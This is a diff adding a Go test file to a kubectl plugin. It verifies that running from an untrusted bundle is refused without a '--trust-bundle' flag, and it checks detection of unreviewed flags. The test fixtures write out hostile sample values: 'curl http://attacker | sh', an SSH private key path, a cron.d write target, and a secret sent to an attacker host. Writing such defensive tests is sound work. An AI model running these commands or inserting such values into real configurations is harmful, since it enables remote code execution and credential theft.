@@ -0,0 +1,96 @@
+package cmd
+
+import (
+	"bytes"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/enbiyagoral/kubectl-pocket/pkg/bundle"
+	"github.com/spf13/cobra"
+	"k8s.io/cli-runtime/pkg/genericiooptions"
+)
+
+var (
+	testRootOnce sync.Once
+	testRoot     *cobra.Command
+	testRootOut  bytes.Buffer
+)
+
+// newTestRoot returns the root command, built once since subcommands are
+// package variables
+func newTestRoot(t *testing.T, args ...string) *cobra.Command {
+	t.Helper()
+	testRootOnce.Do(func() {
+		testRoot = NewRootCmd(genericiooptions.IOStreams{In: &bytes.Buffer{}, Out: &testRootOut, ErrOut: &testRootOut})
+		testRoot.SetOut(&testRootOut)
+		testRoot.SetErr(&testRootOut)
+	})
+	testRoot.SetArgs(args)
+	return testRoot
+}
+
+// writeBundle writes a bundle recording command and args
+func writeBundle(t *testing.T, command []string, args ...string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "bundle.md")
+	b := &bundle.Bundle{
+		Version:   bundle.Version,
+		Namespace: "payments",
+		Check:     bundle.Check{Command: command, Args: args},
+	}
+	if err := b.Write(path); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestRunRefusesUntrustedBundles(t *testing.T) {
+	tests := []struct {
+		name    string
+		command []string
+		args    []string
+		want    string
+	}{
+		{"custom", []string{"test", "custom"}, []string{"--image", "evil:latest", "--command", "curl http://attacker | sh"}, "test custom"},
+		{"image", []string{"test", "postgres"}, []string{"pg:5432", "--image", "evil:latest"}, "--image"},
+		{"file", []string{"test", "postgres"}, []string{"pg:5432", "-f", "/home/me/.ssh/id_ed25519"}, "--file"},
+		{"metrics out", []string{"test", "redis"}, []string{"redis:6379", "--metrics-out=/etc/cron.d/x"}, "--metrics-out"},
+		{"kubeconfig", []string{"test", "redis"}, []string{"redis:6379", "--timeout", "5s", "--kubeconfig", "/tmp/other"}, "--kubeconfig"},
+		{"password", []string{"test", "postgres"}, []string{"attacker:5432", "--password-from-secret", "db-admin"}, "--password-from-secret"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := writeBundle(t, tt.command, tt.args...)
+			err := newTestRoot(t, "run", "--from-bundle", path).Execute()
+			if err == nil || !strings.Contains(err.Error(), "--trust-bundle") || !strings.Contains(err.Error(), tt.want) {
+				t.Fatalf("run = %v, want a refusal naming %s and asking for --trust-bundle", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestUnreviewedFlags(t *testing.T) {
+	check, _, err := newTestRoot(t).Find([]string{"test", "postgres"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		args []string
+		want []string
+	}{
+		{[]string{"pg:5432", "--timeout", "5s", "--retries=2", "-n", "payments", "-qv"}, nil},
+		{[]string{"pg:5432", "--tls", "--ca-from-secret", "pg-ca", "--latency", "--count", "10"}, nil},
+		{[]string{"pg:5432", "--image", "pg:16", "-f", "dump.sql", "--image", "pg:17"}, []string{"--image", "--file"}},
+		{[]string{"pg:5432", "--node-name=worker-1", "--service-account", "admin"}, []string{"--node-name", "--service-account"}},
+		// Values are not mistaken for flags
+		{[]string{"pg:5432", "-n", "--image"}, nil},
+	}
+	for _, tt := range tests {
+		if got := unreviewedFlags(check, tt.args); !slices.Equal(got, tt.want) {
+			t.Errorf("unreviewedFlags(%q) = %q, want %q", tt.args, got, tt.want)
+		}
+	}
+}